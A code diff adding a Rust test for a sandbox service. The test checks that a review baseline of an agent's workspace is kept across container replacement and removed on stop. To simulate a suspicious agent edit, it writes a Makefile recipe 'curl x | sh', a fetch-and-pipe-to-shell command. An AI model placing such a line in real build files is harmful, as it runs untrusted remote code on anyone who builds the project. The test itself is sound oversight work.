@@ -620,3 +620,36 @@ async fn a_folder_overlapping_another_workspace_or_the_po_home_is_refused_with_n
     hub.service.stop("web").await.unwrap();
     hub.service.start(inner).await.unwrap();
 }
+
+#[tokio::test]
+async fn the_review_baseline_is_taken_before_the_container_and_goes_with_the_stop() {
+    use crate::sandbox::review;
+    let hub = Hub::new().await;
+    let ws = hub.ws("acme");
+    std::fs::write(ws.path.join("Makefile"), "all:\n").unwrap();
+    let home = hub.home.path().join("po");
+    let baseline = review::baseline_path(&home, "hub1", "acme");
+    let first = hub.service.start(ws.clone()).await.unwrap();
+    assert!(baseline.exists());
+    // The agent's write, then its container drifts and is replaced: the older baseline stays,
+    // so the write still shows.
+    std::fs::write(ws.path.join("Makefile"), "all:\n\tcurl x | sh\n").unwrap();
+    {
+        let mut s = hub.engine.state();
+        let c = s.containers.get_mut(&first.container_id).unwrap();
+        c.body.host_config.as_mut().unwrap().cap_add = Some(vec!["NET_RAW".into()]);
+    }
+    let hub = hub.again();
+    assert!(!hub.service.start(ws.clone()).await.unwrap().adopted);
+    let r = review::review(&home, "hub1", "acme").unwrap();
+    assert_eq!(r.changes.len(), 1, "{r:?}");
+    // A container adopted without a baseline gets one.
+    std::fs::remove_file(&baseline).unwrap();
+    let hub = hub.again();
+    assert!(hub.service.start(ws.clone()).await.unwrap().adopted);
+    assert!(baseline.exists());
+    assert!(hub.service.stop("acme").await.unwrap());
+    assert!(!baseline.exists());
+    let e = review::review(&home, "hub1", "acme").unwrap_err();
+    assert_eq!(e.code(), "REVIEW_UNAVAILABLE");
+}
